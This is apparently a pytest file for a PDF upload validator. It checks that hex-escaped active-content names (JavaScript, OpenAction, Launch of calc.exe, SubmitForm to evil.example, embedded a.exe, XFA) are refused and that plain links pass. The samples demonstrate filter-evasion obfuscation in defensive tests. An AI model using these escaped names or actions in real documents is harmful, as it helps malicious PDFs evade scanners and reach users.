"""Active content is found on pypdf's parsed object tree, so hex-escaped names
(ISO 32000-1 7.3.5: /J#61vaScript is /JavaScript) are refused like plain ones."""

from __future__ import annotations

import pytest

from requests_app.documents import DocumentError, check_pdf
from requests_app.pdf_support import minimal_pdf, pdf_from_objects

PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
CONTENT = b"<< /Length 0 >>\nstream\n\nendstream"


def _pdf(catalog_extra: bytes = b"", page_extra: bytes = b"", extra_objects: tuple[bytes, ...] = ()) -> bytes:
    return pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
            PAGES,
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R " + page_extra + b" >>",
            CONTENT,
            *extra_objects,
        ]
    )


def _annotated(action: bytes) -> bytes:
    annot = b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A " + action + b" >>"
    return _pdf(page_extra=b"/Annots [5 0 R]", extra_objects=(annot,))


SAMPLES = {
    "open action with script": _pdf(b"/Open#41ction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"),
    "open action, indirect": _pdf(b"/Open#41ction 5 0 R", extra_objects=(b"<< /S /J#61vaScript /JS (x) >>",)),
    "catalog additional actions": _pdf(b"/#41A << /WC << /S /J#61vaScript /JS (x) >> >>"),
    "document-level javascript": _pdf(b"/Names << /J#61vaScript 5 0 R >>", extra_objects=(b"<< /Names [(a) 6 0 R] >>",)),
    "embedded files": _pdf(b"/Names << /Embedded#46iles << /Names [(a.exe) 5 0 R] >> >>", extra_objects=(b"<< /Type /Filespec /F (a.exe) >>",)),
    "page additional actions": _pdf(page_extra=b"/#41A << /O << /S /J#61vaScript /JS (x) >> >>"),
    "annotation launch": _annotated(b"<< /S /L#61unch /F (calc.exe) >>"),
    "annotation submit form": _annotated(b"<< /S /Submit#46orm /F (https://evil.example/) >>"),
    "annotation remote go-to": _annotated(b"<< /S /GoTo#52 /F (other.pdf) /D [0 /Fit] >>"),
    "xfa form": _pdf(b"/AcroForm << /Fields [] /#58FA 5 0 R >>", extra_objects=(CONTENT,)),
}  # fmt: skip


@pytest.mark.parametrize("name", SAMPLES)
def test_hex_escaped_active_content_is_refused(name):
    sample = SAMPLES[name]
    # The raw-bytes pass alone would have let these through: none spells a name plainly.
    for plain in (b"/JavaScript", b"/OpenAction", b"/Launch", b"/EmbeddedFiles", b"/SubmitForm", b"/XFA", b"/GoToR"):
        assert plain not in sample
    with pytest.raises(DocumentError) as exc:
        check_pdf("sample.pdf", sample)
    assert exc.value.code == "active_content"
    assert "scripts, actions or embedded files" in str(exc.value)


def test_plain_links_and_internal_go_to_are_accepted():
    check_pdf("plain.pdf", _annotated(b"<< /S /URI /URI (https://court.example/) >>"))
    check_pdf("plain.pdf", _annotated(b"<< /S /GoTo /D [3 0 R /Fit] >>"))
    check_pdf("plain.pdf", minimal_pdf())
